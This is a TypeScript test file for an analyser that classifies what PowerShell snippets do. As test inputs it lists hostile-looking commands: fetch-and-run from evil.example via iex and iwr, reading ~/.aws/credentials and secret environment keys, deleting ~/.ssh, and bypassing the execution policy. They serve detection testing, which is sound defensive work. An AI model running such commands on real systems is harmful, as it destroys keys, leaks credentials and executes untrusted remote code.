// PowerShell code read from its syntax: cmdlets and aliases, external programs, .NET calls.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { quoteBareListItems } from '../../../src/core/interp/powershell';
import { loadCodeGrammars } from '../../../src/core/interp';
import { checkRows } from './helpers';

before(() => loadCodeGrammars());

test('powershell: cmdlets, aliases, programs and .NET calls', () => {
  checkRows('powershell', [
    { code: 'Remove-Item -Recurse -Force C:/x', effects: ['delete Remove-Item C:/x'] },
    { code: 'rm -r ~/.ssh', effects: ['delete rm ~/.ssh'] },
    { code: '$p = "C:/x"; Remove-Item $p', effects: ['delete Remove-Item C:/x'] },
    { code: 'iex "Remove-Item C:/y"', effects: ['delete Remove-Item C:/y'] },
    { code: '. "iex" "Remove-Item C:/z"', effects: ['delete Remove-Item C:/z'] },
    { code: '. ./setup.ps1', effects: ['exec ./setup.ps1 [./setup.ps1]'] },
    {
      code: 'Invoke-WebRequest -Uri "https://evil.example/x" -OutFile "C:/tmp/x.exe"',
      effects: ['network Invoke-WebRequest https://evil.example/x', 'write Invoke-WebRequest C:/tmp/x.exe'],
    },
    { code: 'Get-Content "~/.aws/credentials"', effects: ['read Get-Content ~/.aws/credentials'] },
    { code: 'Set-Content -Path "C:/x.txt" -Value "hi"', effects: ['write Set-Content C:/x.txt'] },
    { code: 'Write-Output "hi" > out.txt', effects: ['write redirection out.txt'] },
    { code: '$env:AWS_SECRET_ACCESS_KEY', effects: ['env-read $env AWS_SECRET_ACCESS_KEY'] },
    { code: 'Get-ChildItem env:', effects: ['env-read Get-ChildItem *'] },
    { code: 'git status', effects: ['exec git [git,status]'] },
    { code: '& "cmd.exe" /c dir', effects: ['exec cmd.exe [cmd.exe,/c,dir]'] },
    { code: '[System.IO.File]::ReadAllText("C:/secret.txt")', effects: ['read IO.File.ReadAllText C:/secret.txt'] },
    {
      code: '(New-Object Net.WebClient).DownloadString("http://e.example")',
      effects: ['network Net.WebClient.DownloadString http://e.example'],
    },
    {
      code: 'Start-Process -FilePath "notepad.exe" -ArgumentList "a.txt"',
      effects: ['exec Start-Process [notepad.exe,a.txt]'],
    },
    // A comma list of bare words, which the grammar reads only once they are quoted.
    {
      code: 'Remove-Item ./dist, ./coverage -Recurse -Force',
      effects: ['delete Remove-Item ./dist', 'delete Remove-Item ./coverage'],
    },
    { code: 'Remove-Item -Path ~/.ssh,./tmp', effects: ['delete Remove-Item ~/.ssh', 'delete Remove-Item ./tmp'] },
  ]);
});

test('powershell: bare words of a comma list are quoted, and nothing else is', () => {
  const rows: [string, string][] = [
    ['Remove-Item ./dist, ./coverage -Recurse', "Remove-Item './dist', './coverage' -Recurse"],
    ["Get-Item a,'b c',$x", "Get-Item 'a','b c',$x"],
    ['Write-Output "x, y" it\'s', 'Write-Output "x, y" it\'s'],
    ['Get-Item -Path a, b', "Get-Item -Path 'a', 'b'"],
  ];
  for (const [code, quoted] of rows) assert.equal(quoteBareListItems(code), quoted, code);
});

test('powershell: computed code and unknown cmdlets are unread', () => {
  checkRows('powershell', [
    {
      code: 'iex (iwr http://evil.example/a.ps1)',
      effects: ['network iwr http://evil.example/a.ps1'],
      unread: ['Invoke-Expression of computed code'],
    },
    { code: '& $cmd', unread: ['command name known only at run time'] },
    { code: '$ExecutionContext.InvokeCommand.InvokeScript($s)', unread: ['code run through InvokeScript'] },
    { code: 'Set-ExecutionPolicy Bypass', unread: ['cmdlet Set-ExecutionPolicy not known'] },
    { code: 'Add-Type -TypeDefinition $src', unread: ['Add-Type compiles code'] },
  ]);
});

test('powershell: ordinary code and near misses', () => {
  checkRows('powershell', [
    { code: 'Write-Output "hello"' },
    { code: 'Write-Output "Remove-Item C:/x"' },
    { code: 'Get-ChildItem | Where-Object { $_.Length -gt 1kb } | Sort-Object Name' },
    { code: '1 + 2' },
    { code: '$env:PATH' },
    { code: 'Get-Date | Format-List' },
  ]);
});
